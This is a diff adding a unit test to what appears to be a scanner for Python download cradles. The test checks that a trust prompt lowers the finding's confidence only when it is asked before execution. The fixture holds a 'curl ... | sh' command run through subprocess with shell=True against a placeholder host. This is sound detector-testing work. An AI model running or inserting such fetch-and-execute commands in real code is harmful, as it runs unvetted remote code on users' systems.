@@ -65,4 +65,31 @@ class ScannerTest {
         assertThat(cradles.get(1).confidence()).as("a prompt for a name is no confirmation")
                 .isNotEqualTo(dev.chainhunt.model.Confidence.LOW);
     }
+
+    @Test
+    void aConfirmationAskedByAHelperCalledFirstCountsAsAsked() {
+        String code = """
+                import subprocess
+                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
+                def _check_trust(repo):
+                    if input(f"Trust {repo} and run its code? (y/N) ") != "y":
+                        raise RuntimeError(repo)
+                class Loader:
+                    def _confirm(self):
+                        _check_trust("x")
+                    def load(self):
+                        self._confirm()
+                        return subprocess.call(CMD, shell=True)
+                def unasked():
+                    subprocess.call(CMD, shell=True)
+                    _check_trust("y")
+                """;
+        ScanResult r = scanner.scan(Target.of("hub.py", code.getBytes(StandardCharsets.UTF_8)));
+        List<dev.chainhunt.model.Finding> cradles = r.findings().stream()
+                .filter(f -> f.ruleId().equals("py-process-download-cradle")).toList();
+        assertThat(cradles).extracting(f -> f.location().line() + " " + f.confidence().id())
+                .containsExactly("11 low", "13 " + cradles.get(1).confidence().id());
+        assertThat(cradles.get(1).confidence()).as("asking after running is no confirmation")
+                .isNotEqualTo(dev.chainhunt.model.Confidence.LOW);
+    }
 }
